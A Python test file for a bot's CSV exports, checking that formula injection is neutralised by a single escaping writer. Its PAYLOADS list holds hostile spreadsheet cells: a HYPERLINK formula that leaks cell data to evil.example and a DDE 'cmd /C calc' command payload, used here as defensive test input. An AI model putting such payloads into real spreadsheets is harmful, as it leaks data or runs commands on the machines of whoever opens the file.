"""CSV formula injection: every CSV the bot writes goes through one writer, and no cell a member or
an imported file controls reaches a spreadsheet as a formula (bot/domain/csv_safe.py). The
end-to-end side (the commands and the CLI) is in tests/e2e/test_csv_exports.py."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, cast
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.csv_out import CsvOut
from bot.domain.csv_safe import FORMULA_START, escape_cell, is_plain_number, unescape_cell
from bot.features.attendance.domain.stays import PersonSummary
from bot.features.attendance.export import write_export, write_people
from bot.features.attendance.repo import AttendanceRepository, ExportRow
from bot.features.sessions.calendar import schedule_csv
from bot.features.sessions.domain.model import Session
from bot.features.sessions.domain.schedule_import import parse_schedule

TOKYO = ZoneInfo("Asia/Tokyo")
BOT = Path(__file__).resolve().parents[2] / "bot"
HELPER = BOT / "core" / "csv_out.py"

#: The payloads of issue 13 and a few more of the same kind.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=1+1",
    "\0=1",
    "'=already quoted",
)


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula character first (plain numbers are numbers)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell and cell[0] in FORMULA_START and not is_plain_number(cell)
    ]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


# -- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x","x")', '\'=HYPERLINK("http://x","x")'),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("'=x", "''=x"),
        ("''+x", "'''+x"),
        ("- Lightning talks", "'- Lightning talks"),
        ("-5", "-5"),
        ("+3", "+3"),
        ("3.5", "3.5"),
        ("-1.5e3", "-1.5e3"),
        ("-", "'-"),
        ("-５", "'-５"),  # a full-width digit is no number to a spreadsheet
        ("'5", "'5"),
        ("'", "'"),
        ("Ana", "Ana"),
        ("ベン", "ベン"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (3.25, 3.25),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, "True"),
    ],
)
def test_cells(value: Any, cell: Any) -> None:
    assert escape_cell(value) == cell


@given(st.text(max_size=40))
def test_the_quote_comes_off_again_exactly(text: str) -> None:
    cell = escape_cell(text)
    assert isinstance(cell, str)
    assert unescape_cell(cell) == text
    assert not live_formulas([[cell]])


@given(st.text(alphabet="'=+-@\t\r\x0012.a", max_size=8))
def test_the_rule_is_reversible_on_the_tricky_characters(text: str) -> None:
    cell = escape_cell(text)
    assert isinstance(cell, str)
    assert unescape_cell(cell) == text
    assert not live_formulas([[cell]])


def test_the_writer_round_trips_through_the_csv_module() -> None:
    out = io.StringIO()
    writer = CsvOut(out, ("name", "n", "note"))
    writer.rows([(p, 7, "ok") for p in PAYLOADS])
    writer.record({"name": "-5", "n": -5})
    rows = parse(out.getvalue())
    assert rows[0] == ["name", "n", "note"]
    assert not live_formulas(rows)
    assert [unescape_cell(r[0]) for r in rows[1:-1]] == list(PAYLOADS)
    assert rows[-1] == ["-5", "-5", ""]


# -- each export ------------------------------------------------------------------------------


def session(session_id: int, title: str, **fields: Any) -> Session:
    start = datetime(2027, 7, 1, 1, 0, tzinfo=UTC) + timedelta(hours=session_id)
    return Session(
        id=session_id,
        guild_id=1,
        title=title,
        start=start,
        end=start + timedelta(minutes=30),
        created_at=datetime(2027, 6, 1, tzinfo=UTC),
        updated_at=datetime(2027, 6, 1, tzinfo=UTC),
        **fields,
    )


def hostile_programme() -> list[Session]:
    titles = [p for p in PAYLOADS if p.strip(" \t\r\0")]  # a title is never blank
    return [
        session(n, title, track="@track", description="=cmd|' /C calc'!A0\n- point")
        for n, title in enumerate(titles, start=1)
    ]


def test_schedule_csv_has_no_live_formula() -> None:
    programme = hostile_programme()
    rows = parse(schedule_csv(programme, TOKYO))
    assert not live_formulas(rows)
    header, *body = rows
    titles = [unescape_cell(dict(zip(header, r, strict=True))["title"]) for r in body]
    assert titles == [s.title for s in programme]
    assert {r[header.index("track")] for r in body} == {"'@track"}
    assert {r[header.index("description")] for r in body} == {"'=cmd|' /C calc'!A0\n- point"}


def test_schedule_csv_round_trips_hostile_titles_through_the_importer() -> None:
    programme = hostile_programme()
    result = parse_schedule("programme.csv", schedule_csv(programme, TOKYO).encode(), TOKYO)
    assert [d.title for d in result.drafts] == [s.title for s in programme]
    assert {d.track for d in result.drafts} == {"@track"}


def test_one_sessions_people_csv_has_no_live_formula() -> None:
    people = [
        PersonSummary(user_id=n, display_name=p, first_joined=0, last_left=60, seconds=60)
        for n, p in enumerate(PAYLOADS)
    ]
    out = io.StringIO()
    write_people(people, TOKYO, out)
    rows = parse(out.getvalue())
    assert not live_formulas(rows)
    assert [unescape_cell(r[1]) for r in rows[1:]] == list(PAYLOADS)
    assert [r[4] for r in rows[1:]] == ["60"] * len(PAYLOADS), "numbers stay numbers"


class FakeRows:
    """The one method `write_export` uses of the repository."""

    def __init__(self, rows: list[ExportRow]) -> None:
        self._rows = rows

    async def export_rows(self, guild_id: int) -> AsyncIterator[list[ExportRow]]:
        yield self._rows


async def test_the_attendance_export_has_no_live_formula() -> None:
    stays = [
        ExportRow(
            user_id=n,
            display_name=p,
            channel_id=100 + n,
            channel_name=p,
            place_kind="other",
            place_id=None,
            joined_at=0,
            left_at=60,
        )
        for n, p in enumerate(PAYLOADS)
    ]
    out = io.StringIO()
    repo = cast(AttendanceRepository, FakeRows(stays))
    assert await write_export(repo, 1, TOKYO, out, now=120) == len(PAYLOADS)
    rows = parse(out.getvalue())
    assert not live_formulas(rows)
    assert [unescape_cell(r[1]) for r in rows[1:]] == list(PAYLOADS)
    assert [unescape_cell(r[3]) for r in rows[1:]] == list(PAYLOADS)


# -- one writer -------------------------------------------------------------------------------


def csv_writers(path: Path) -> list[int]:
    """Lines of `path` that make a csv writer (`csv.writer`, `csv.DictWriter`, or either
    imported by name)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(node.lineno)
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in ("writer", "DictWriter") for alias in node.names)
        ):
            found.append(node.lineno)
    return found


def test_every_csv_is_written_through_the_one_writer() -> None:
    elsewhere = {
        str(path.relative_to(BOT.parent)): lines
        for path in sorted(BOT.rglob("*.py"))
        if path != HELPER and (lines := csv_writers(path))
    }
    assert elsewhere == {}, "write CSV with bot.core.csv_out.CsvOut (formula-safe cells)"
    assert csv_writers(HELPER), "the helper itself is found by this check"
